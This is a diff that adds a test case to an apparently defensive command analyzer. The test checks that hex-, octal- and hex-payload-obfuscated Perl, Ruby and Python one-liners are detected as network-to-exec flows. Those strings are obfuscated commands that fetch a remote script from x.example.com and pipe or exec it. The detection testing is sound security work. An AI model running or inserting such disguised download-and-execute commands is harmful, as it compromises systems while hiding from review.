@@ -169,3 +169,13 @@ TEST_CASE("R and Tcl programs: the whole environment, their HTTP clients and soc
   CHECK(home.sources.empty());
   CHECK(sh::read_code("Rscript", "download.file('https://cran.r-project.org/PACKAGES', 'p.txt')").network);
 }
+
+TEST_CASE("hex and octal escapes in literals, and hex payloads run by exec, are read as what they spell") {
+  CHECK(has_flow(analyze("perl -e 'system(\"\\x63\\x75\\x72\\x6c -fsS http://x.example.com/x | \\x73\\x68\")'"), "network", "exec"));
+  CHECK(has_flow(analyze("ruby -e 'system(\"\\143\\165\\162\\154 -fsS https://x.example.com/r | \\163\\150\")'"), "network", "exec"));
+  // import urllib.request as u;exec(u.urlopen('https://x.example.com/p.py').read())
+  CHECK(has_flow(analyze("python3 -c \"exec(bytes.fromhex('696d706f72742075726c6c69622e7265717565737420617320753b65786563"
+                         "28752e75726c6f70656e282768747470733a2f2f782e6578616d706c652e636f6d2f702e707927292e72656164282929'))\""),
+                 "network", "exec"));
+  CHECK_FALSE(has_flow_to(analyze("perl -e 'print \"a\\x41\\tb\\n\"'"), "exec"));
+}
